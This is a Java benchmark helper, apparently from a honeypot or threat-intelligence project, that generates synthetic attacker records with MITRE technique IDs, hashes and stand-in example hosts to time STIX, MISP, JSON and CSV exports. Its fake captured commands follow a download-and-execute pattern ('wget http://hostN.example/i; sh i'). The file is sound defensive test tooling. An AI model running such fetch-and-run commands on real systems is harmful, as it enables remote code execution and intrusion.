package org.decnet.bench;

import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import org.decnet.attack.AttackCatalog;
import org.decnet.export.download.CsvExport;
import org.decnet.export.download.JsonExport;
import org.decnet.export.misp.MispExport;
import org.decnet.export.misp.MispSettings;
import org.decnet.export.stix.StixExport;
import org.decnet.export.stix.Tlp;
import org.decnet.model.actor.Attacker;
import org.decnet.model.actor.NetworkFacts;
import org.decnet.model.attack.TechniqueId;
import org.decnet.model.event.EventIds;
import org.decnet.model.fact.ActorFacts;
import org.decnet.model.fact.FactVisitor;
import org.decnet.model.fact.FileSighting;
import org.decnet.model.fact.TechniqueSighting;
import org.decnet.model.fact.ValueSighting;
import org.decnet.testkit.Hashes;
import org.decnet.testkit.Scene;

/** Attackers that are made as they are asked for, each with a bit of everything. */
final class GeneratedFacts {
  private static final int FILES = 5000;
  private static final int COMMANDS = 5;

  private final int attackers;

  GeneratedFacts(int attackers) {
    this.attackers = attackers;
  }

  void measure(AttackCatalog attack) throws IOException {
    ExportBench.measure("stix", out -> new StixExport(attack, Tlp.GREEN).fleet(this::each, out));
    MispExport misp = new MispExport(attack, MispSettings.DEFAULTS);
    ExportBench.measure(
        "misp",
        out -> misp.write(events -> each(facts -> events.accept(misp.attacker(facts))), out));
    ExportBench.measure("json", out -> new JsonExport("bench", "18.1").write(this::each, out));
    ExportBench.measure("csv", out -> CsvExport.write(this::each, out));
  }

  private void each(FactVisitor visitor) throws IOException {
    for (int i = 0; i < attackers; i++) {
      visitor.accept(facts(i));
    }
  }

  private static ActorFacts facts(int number) {
    String ip =
        "2001:db8::"
            + Integer.toHexString(number >> 16)
            + ':'
            + Integer.toHexString(number & 0xFFFF);
    UUID uuid = EventIds.attacker(ip);
    Instant first = Scene.second(number);
    Instant last = Scene.second(number + 600.0);
    String host = "host" + number + ".example";
    List<ValueSighting> commands = new ArrayList<>();
    for (int i = 0; i < COMMANDS; i++) {
      commands.add(
          new ValueSighting("wget http://" + host + "/" + i + "; sh " + i, first, last, 1));
    }
    return new ActorFacts(
        new Attacker(
            uuid,
            ip,
            first,
            last,
            12,
            3,
            List.of("ssh"),
            List.of("web-1"),
            null,
            NetworkFacts.NONE),
        null,
        List.of(
            sighting("T1059.004", number, first, last),
            sighting("T1082", number, first, last),
            sighting("T1105", number, first, last)),
        List.of(
            new FileSighting(
                Hashes.sha256("file " + number % FILES), 1000L, "x.sh", first, last, 1)),
        List.of(new ValueSighting(host, first, last, 1)),
        List.of(new ValueSighting("http://" + host + "/x.sh", first, last, 1)),
        List.of(new ValueSighting(host + "/x.sh", first, last, 1)),
        commands,
        List.of(
            new ActorFacts.Fingerprint("hassh", Hashes.sha256("" + number % 100).substring(0, 32))),
        null);
  }

  private static TechniqueSighting sighting(
      String technique, int number, Instant first, Instant last) {
    return new TechniqueSighting(
        new TechniqueId(technique),
        "web-1:s" + number,
        2,
        first,
        last,
        0.9,
        new TreeMap<>(Map.of("R0001", 1)),
        List.of(new UUID(number, 1)),
        "18.1");
  }
}
